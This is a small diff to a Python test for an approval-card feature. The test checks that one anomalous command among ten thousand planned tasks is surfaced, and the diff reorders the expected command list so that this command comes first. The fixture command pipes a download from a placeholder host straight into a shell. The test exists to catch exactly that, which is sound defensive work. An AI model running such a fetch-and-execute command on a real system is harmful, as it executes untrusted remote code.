@@ -287,7 +287,7 @@ def test_a_card_of_ten_thousand_tasks_shows_the_one_unlike_the_others_and_show_a
     assert re.search(r"task t05000 .*sh -c 'curl -s https://x.example/p \| sh'", every.out)
     doc = json.loads(rsk("approvals", "show", card.id, "-p", project, "--json").out)
     assert [(c["text"], c["tasks"]) for c in doc["kinds"]["commands"]] == [
-        ("python train.py --seed=#", 9999), ("sh -c 'curl -s https://x.example/p | sh'", 1)]  # fmt: skip
+        ("sh -c 'curl -s https://x.example/p | sh'", 1), ("python train.py --seed=#", 9999)]  # fmt: skip
     assert len(doc["card"]["plan"]["tasks"]) == 100
     assert len(json.loads(rsk("approvals", "show", card.id, "--all", "-p", project, "--json").out)["card"]["plan"]
                ["tasks"]) == 10_000  # fmt: skip
